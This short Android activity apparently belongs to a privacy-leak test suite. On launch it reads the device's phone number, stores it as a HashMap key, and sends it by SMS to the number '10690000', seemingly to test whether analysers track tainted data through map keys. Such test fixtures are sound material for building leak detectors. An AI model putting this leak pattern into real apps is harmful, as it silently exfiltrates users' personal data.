package cn.privlens.suite.value_as_key;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.HashMap;
import java.util.Map;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Map<String, Integer> counts = new HashMap<>();
        counts.put(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getLine1Number(), 1);
        for (String k : counts.keySet()) {
            SmsManager.getDefault().sendTextMessage("10690000", null, k, null, null);
        }
    }
}
